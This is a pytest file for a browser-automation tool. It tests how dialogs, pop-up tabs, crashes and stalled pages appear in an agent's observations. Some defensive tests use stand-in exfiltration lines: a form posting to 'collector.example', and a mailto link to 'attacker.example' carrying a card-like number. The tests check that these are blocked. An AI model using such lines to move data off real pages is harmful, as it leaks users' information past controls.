"""Dialogs, pop-ups, tabs and crashes appear in the next observation and do not raise."""

import asyncio
import os
import sys
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest
import pytest_asyncio
from playwright.async_api import Error

from midcourse.domain.observation import Zone
from midcourse.worlds.browser.chromium import system_chromium
from midcourse.worlds.browser.page import tabs
from tests.pages import Pages, serve_bytes
from tests.worlds.browser.visitor import Visitor, ok, page_of, visiting

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="session")]

SAYS = "<p id=log role=status>-</p><script>const say = (text) => { log.textContent = text }</script>"


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def visitor(pages: Pages) -> AsyncGenerator[Visitor]:
    """It waits long enough for a busy machine to report a tab that an act opened."""
    async with visiting(pages, quiet_seconds=0.5) as hand:
        yield hand


@pytest_asyncio.fixture(autouse=True, loop_scope="session")
async def one_tab(visitor: Visitor) -> AsyncGenerator[None]:
    yield
    for zone in (await visitor.see()).zones:
        if zone.role == "tab" and zone.id.startswith("tab"):
            await visitor.do("close_tab", zone)


async def dialog(visitor: Visitor) -> Zone:
    zones = (await visitor.see()).zones
    assert [zone.id for zone in zones[:2]] == ["page", "dialog"]
    assert not [zone for zone in zones if zone.id.startswith("e")], "behind a dialog nothing can be reached"
    return zones[1]


async def said(visitor: Visitor) -> str:
    return (await visitor.labels("status"))[0]


async def test_alert_is_seen_and_answered(visitor: Visitor):
    await visitor.visit(f"{SAYS}<button onclick=\"alert('Saved!'); say('after')\">Save</button>")
    save = await visitor.zone("Save")
    outcome = await visitor.do("click", save)
    assert (outcome.status, outcome.detail) == ("ok", "a dialog opened: Saved!")
    zone = await dialog(visitor)
    assert (zone.label, zone.get("kind")) == ("Saved!", "alert")
    blocked = await visitor.do("click", save)
    assert blocked.reason == "dialog_open"
    ok(await visitor.do("accept", zone))
    assert await said(visitor) == "after"


@pytest.mark.parametrize(
    ("skill", "arguments", "answer"),
    [("accept", {}, "true"), ("dismiss", {}, "false")],
)
async def test_confirm_is_accepted_or_dismissed(visitor: Visitor, skill: str, arguments: dict[str, str], answer: str):
    await visitor.visit(f"{SAYS}<button onclick=\"say(String(confirm('Sure?')))\">Delete</button>")
    ok(await visitor.on("Delete", "click"))
    ok(await visitor.do(skill, await dialog(visitor), **arguments))
    assert await said(visitor) == answer


async def test_a_prompt_gets_its_text_and_the_dialog_after_it_is_seen(visitor: Visitor):
    await visitor.visit(f"{SAYS}<button onclick=\"say(prompt('Name?', 'Bob')); alert('Hi')\">Ask</button>")
    ok(await visitor.on("Ask", "click"))
    zone = await dialog(visitor)
    assert (zone.get("kind"), zone.get("value")) == ("prompt", "Bob")
    ok(await visitor.do("accept", zone, text="Ada"))
    zone = await dialog(visitor)
    assert zone.label == "Hi"
    ok(await visitor.do("dismiss", zone))
    assert await said(visitor) == "Ada"


@pytest.mark.parametrize("milliseconds", [0, 200], ids=["while the page comes", "later"])
async def test_a_dialog_that_opens_by_itself_is_answered(visitor: Visitor, milliseconds: int):
    await visitor.visit(f"<p>Calm</p><script>setTimeout(() => alert('Boo'), {milliseconds})</script>")
    outcome = await visitor.do("wait_for", text="Boo", seconds=30)
    assert outcome.status == "ok"
    ok(await visitor.do("accept", await dialog(visitor)))


async def test_leaving_a_page_with_beforeunload_is_a_dialog(visitor: Visitor):
    await visitor.visit(
        "<input aria-label=Name><script>onbeforeunload = (e) => e.preventDefault()</script>", title="Stay"
    )
    ok(await visitor.on("Name", "type", text="x"))
    there = visitor.pages.show("/left", "<p>Left</p>", title="Left")
    ok(await visitor.do("navigate", url=there))
    zone = await dialog(visitor)
    assert zone.get("kind") == "beforeunload"
    ok(await visitor.do("dismiss", zone))
    assert await visitor.title() == "Stay"
    await visitor.do("navigate", url=there)
    ok(await visitor.do("accept", await dialog(visitor)))
    assert await visitor.title() == "Left"


async def test_tab_that_an_act_opens_comes_to_the_front(visitor: Visitor):
    there = visitor.pages.show("/popup", "<p>Popup</p>", title="Popup")
    await visitor.visit(f"<a href='{there}' target=_blank>Open</a>", title="Opener")
    ok(await visitor.on("Open", "click"))
    look = await visitor.see()
    assert (look.surface.title, look.zones[0].get("tabs")) == ("Popup", 2)
    back = next(zone for zone in look.zones if zone.role == "tab")
    assert back.label == "Opener"
    ok(await visitor.do("switch_tab", back))
    look = await visitor.see()
    assert look.surface.title == "Opener"
    ok(await visitor.do("close_tab", next(zone for zone in look.zones if zone.role == "tab")))
    assert (await visitor.see()).zones[0].get("tabs") == 1
    assert (await visitor.do("close_tab", (await visitor.see()).zones[0])).reason == "last_tab"


async def test_first_page_of_a_tab_has_its_status(visitor: Visitor):
    there = visitor.pages.show("/missing", "<p>Nothing here</p>", title="Missing", status=404)
    await visitor.visit(f"<a href='{there}' target=_blank>Open</a>")
    ok(await visitor.on("Open", "click"))
    assert (await visitor.see()).zones[0].get("status") == 404


@pytest.mark.parametrize("scheme", ["http", "https"])
@pytest.mark.parametrize("leaves", ["trap.submit()", "trap.method = 'get'; trap.submit()", "location = trap.action"])
async def test_page_that_wants_to_leave_for_a_refused_address_stays(visitor: Visitor, scheme: str, leaves: str):
    """Otherwise a script could end the task by navigating away. The outcome names the address."""
    form = f"<form id=trap method=post action='{scheme}://collector.example/in'></form>"
    await visitor.visit(f'{form}<button onclick="{leaves}">Save</button>', title="Mine")
    outcome = await visitor.on("Save", "click")
    assert f"{scheme}://collector.example/in" in outcome.detail
    page, *zones = (await visitor.see()).zones
    assert (page.label, [zone.label for zone in zones]) == ("Mine", ["Save"])


@pytest.mark.parametrize("elsewhere", ["http://advert.example/", "https://advert.example/"])
async def test_tab_of_an_origin_that_is_not_allowed_is_closed(visitor: Visitor, elsewhere: str):
    """Adverts open such tabs at each click. The outcome names the origin."""
    await visitor.visit(f"<button onclick=\"window.open('{elsewhere}')\">Play</button>", title="Mine")
    outcome = await visitor.on("Play", "click")
    assert outcome.status == "ok"
    assert "advert.example" in outcome.detail
    page, *zones = (await visitor.see()).zones
    assert (page.label, page.get("tabs")) == ("Mine", 1)
    assert [zone.label for zone in zones] == ["Play"]


async def test_closed_tab_leads_back_to_the_one_before(visitor: Visitor):
    """It is not always the tab that was opened last."""
    await visitor.visit("<a href=/two target=_blank>Two</a> <a href=/three target=_blank>Three</a>", title="One")
    for name in ("Two", "Three"):
        visitor.pages.show(f"/{name.lower()}", "<p>Here</p>", title=name)
    ok(await visitor.on("Two", "click"))
    ok(await visitor.do("switch_tab", await visitor.zone("One")))
    ok(await visitor.on("Three", "click"))
    ok(await visitor.do("close_tab", (await visitor.see()).zones[0]))
    assert await visitor.title() == "One"


async def test_tab_that_opens_by_itself_stays_behind(visitor: Visitor):
    """When the server triggers it, outside of any act."""
    there = visitor.pages.show("/advert", "<p>Buy</p>", title="Advert")
    await visitor.visit(
        f"""<p>Calm</p><script>const asking = setInterval(async () => {{
        if ((await fetch('/now')).ok) {{ clearInterval(asking); open('{there}') }} }}, 500)</script>""",
        title="Mine",
    )
    visitor.pages.show("/now", "<html>")
    ok(await visitor.do("wait_for", text="Advert", seconds=30))
    assert await visitor.title() == "Mine"


async def test_window_that_closes_itself_leaves_the_one_before(visitor: Visitor):
    there = visitor.pages.show("/closing", "<button onclick='window.close()'>Done</button>", title="Closing")
    await visitor.visit(f"<button onclick=\"window.open('{there}')\">Open</button>", title="Opener")
    ok(await visitor.on("Open", "click"))
    assert await visitor.title() == "Closing"
    ok(await visitor.on("Done", "click"))
    assert await visitor.title() == "Opener"


async def test_page_that_crashes_can_be_left(pages: Pages):
    async with visiting(pages) as visitor:
        await visitor.visit("<button>Fine</button>")
        with pytest.raises(Error, match="crash"):
            await page_of(visitor).goto("chrome://crash")
        outcome = await visitor.do("press_keys", keys="Enter")
        assert (outcome.status, outcome.reason) == ("failed", "page_crashed")
        page, *rest = (await visitor.see()).zones
        assert (page.get("crashed"), rest) == (True, [])
        await visitor.visit("<button>Alive</button>")
        assert await visitor.labels("button") == ["Alive"]
        assert (await visitor.see()).zones[0].get("tabs") == 1


STALLED = b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\nonly so much"
"""Without a type that it trusts, Chromium waits for more of it to guess one, and lets nothing through to the page before."""


@pytest.fixture
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tabs, "_ANSWERS_WITHIN", 2.0)


@pytest.mark.usefixtures("impatient")
async def test_page_with_an_endless_script_can_be_left(pages: Pages):
    async with visiting(pages) as visitor:
        await visitor.visit("<button onclick='while (true) {}'>Work</button>")
        with pytest.raises(TimeoutError):
            await asyncio.wait_for(visitor.on("Work", "click"), 5)
        await leave_silent_page(visitor)


@pytest.mark.usefixtures("impatient")
async def test_page_that_stops_half_way_can_be_left(pages: Pages):
    async with serve_bytes(STALLED) as there, visiting(pages, origins={there: {}}) as visitor:
        await visitor.visit(f"<a href='{there}'>Report</a>")
        await asyncio.wait_for(visitor.on("Report", "click"), 30)
        await leave_silent_page(visitor)


async def leave_silent_page(visitor: Visitor) -> None:
    page, *rest = (await visitor.see()).zones
    assert (page.get("silent"), rest) == (True, [])
    await visitor.visit("<button>Alive</button>")
    page, *rest = (await visitor.see()).zones
    assert (page.get("silent"), [zone.label for zone in rest]) == (None, ["Alive"])


@pytest.mark.skipif(sys.platform != "linux", reason="elsewhere Chromium does not look for these programs")
async def test_mailto_link_starts_no_program(pages: Pages, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """A program would send text of the page past the proxy. The headless shell never starts one; the full Chromium could."""
    started, programs = tmp_path / "started", tmp_path / "programs"
    programs.mkdir()
    for name in ("xdg-email", "xdg-open"):
        (programs / name).write_text(f"#!/bin/sh\necho $0 >> {started}\n")
        (programs / name).chmod(0o700)
    monkeypatch.setenv("PATH", f"{programs}:{os.environ['PATH']}")
    async with visiting(pages, executable=system_chromium(headed=True) or "") as visitor:
        await visitor.visit("<a href='mailto:x@attacker.example?body=4111'>Details</a>")
        async with page_of(visitor).expect_console_message(lambda said: "external handler" in said.text):
            ok(await visitor.on("Details", "click"))
        ok(await visitor.do("wait_for", text="Details"))
    assert not started.exists()
